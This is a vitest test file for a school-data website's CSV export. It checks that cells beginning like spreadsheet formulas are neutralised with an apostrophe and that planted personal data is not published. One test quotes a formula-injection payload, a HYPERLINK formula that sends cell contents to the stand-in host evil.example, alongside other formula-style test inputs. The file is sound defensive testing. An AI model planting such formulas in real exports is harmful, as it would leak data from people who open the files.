/**
 * Every CSV and workbook the site writes is safe to open in a spreadsheet:
 * a text that starts like a formula is neutralised, numbers stay numbers
 * (OWASP, CSV injection).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, inject, it } from 'vitest';
import { csvLine, EXCEL, safeText } from '../src/lib/files/csv.ts';
import { files } from './helpers/crawl.ts';
import { FORMULA_AFTER_SEPARATOR, FORMULA_NAME, FORMULA_TEXTS, PLANTED } from './helpers/independent.ts';

const RUNS = /^[=+\-@\t\r]/;
const NUMBER = /^[-+]?\d+([.,]\d+)?$/;

describe('safeText and csvLine', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+7 (415) 123-45-67', "'+7 (415) 123-45-67"],
    ['-Анализ', "'-Анализ"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ['СОШ;=1+1', "СОШ;'=1+1"],
    ['a, -b', "a, '-b"],
    ['-1.25', '-1.25'],
    ['+3', '+3'],
    ['-0,50', '-0,50'],
    ['1e3', '1e3'],
    ['Школа № 1', 'Школа № 1'],
    ['', ''],
  ])('%j → %j', (input, output) => expect(safeText(input)).toBe(output));
  it('quotes the neutralised cell where it must and leaves numbers alone in both dialects', () => {
    expect(csvLine(['=HYPERLINK("x";"y")', -1.5, '-2.25'])).toBe(`"'=HYPERLINK(""x"";""y"")",-1.5,-2.25`);
    expect(csvLine(['@a;b', '-2.25'], EXCEL, new Set([1]))).toBe(`"'@a;b";-2,25`);
    // A separator of either dialect, or a tab, makes the cell quoted in both.
    expect(csvLine(['СОШ;=1+1', 'a\tb', 'x,y'])).toBe(`"СОШ;'=1+1","a\tb","x,y"`);
  });
});

/** Every cell of every CSV in a built site, ZIP packages included: [file, cell]. */
function* csvCells(dist: string): Generator<[string, string]> {
  const parse = (name: string, text: string) => {
    const delimiter = name.endsWith('-excel.csv') ? ';' : ',';
    return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter }).data.flat();
  };
  for (const f of files(dist)) {
    if (f.endsWith('.csv')) for (const c of parse(f, readFileSync(join(dist, f), 'utf8'))) yield [f, c];
    if (f.endsWith('.zip'))
      for (const [inner, bytes] of Object.entries(unzipSync(readFileSync(join(dist, f)))))
        if (inner.endsWith('.csv')) for (const c of parse(inner, strFromU8(bytes))) yield [`${f}/${inner}`, c];
  }
}

/** Every cell of every CSV in a built site read with a separator that may not be its own, as another spreadsheet would. */
function* foreignCells(dist: string, delimiter: string): Generator<[string, string]> {
  const parse = (text: string) => Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter, quoteChar: '"' }).data.flat();
  for (const f of files(dist)) {
    if (f.endsWith('.csv')) for (const c of parse(readFileSync(join(dist, f), 'utf8'))) yield [f, c];
    if (f.endsWith('.zip'))
      for (const [inner, bytes] of Object.entries(unzipSync(readFileSync(join(dist, f)))))
        if (inner.endsWith('.csv')) for (const c of parse(strFromU8(bytes))) yield [`${f}/${inner}`, c];
  }
}

describe('the built site of a municipality whose school name and roadmap lines start like formulas', () => {
  const dist = inject('subDist');
  it.each([',', ';', '\t'])('writes no cell a spreadsheet would run when the files are read with %j', (delimiter) => {
    // A cell that begins with a quote is a quoted cell to a spreadsheet: what follows the quote is its text.
    const bad = [...foreignCells(dist, delimiter)].filter(([, c]) => RUNS.test(c.replace(/^"/, '')) && !NUMBER.test(c));
    expect(bad.slice(0, 10)).toEqual([]);
  });
  it('quotes a cell with a separator of another dialect and keeps its formula text behind an apostrophe', () => {
    const roadmap = readFileSync(join(dist, 'opendata/roadmap.csv'), 'utf8');
    expect(roadmap).toContain(FORMULA_AFTER_SEPARATOR.replace('=', "'="));
  });
  it('publishes none of the personal data planted in the register and the roadmap reports', () => {
    const leaks = files(dist)
      .filter((f) => /\.(html|csv|json|xml|txt|svg)$/.test(f))
      .flatMap((f) => PLANTED.filter((p) => readFileSync(join(dist, f), 'utf8').includes(p)).map((p) => `${f}: ${p}`));
    expect(leaks).toEqual([]);
  });
  it('writes no CSV cell a spreadsheet would run, in open data, chart files and packages', () => {
    const bad = [...csvCells(dist)].filter(([, c]) => RUNS.test(c) && !NUMBER.test(c));
    expect(bad.slice(0, 10)).toEqual([]);
  });
  it('keeps the text itself, behind an apostrophe, in schools.csv and roadmap.csv', () => {
    const schools = readFileSync(join(dist, 'opendata/schools.csv'), 'utf8');
    expect(schools).toContain(`"'${FORMULA_NAME.replace(/"/g, '""')}"`);
    const roadmap = readFileSync(join(dist, 'opendata/roadmap.csv'), 'utf8');
    for (const t of FORMULA_TEXTS.slice(1, 3)) expect(roadmap).toContain(`'${t}`);
  });
  it('carries the name into at least one chart file, so the check above has something to check', () => {
    const seen = [...csvCells(dist)].filter(([f, c]) => f.startsWith('charts/') && c === `'${FORMULA_NAME}`);
    expect(seen.length).toBeGreaterThan(0);
  });
  it('still shows the name as written on the pages', () => {
    expect(readFileSync(join(dist, 'schools/03/index.html'), 'utf8')).toContain(
      '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;СОШ № 3&quot;)',
    );
  });
});
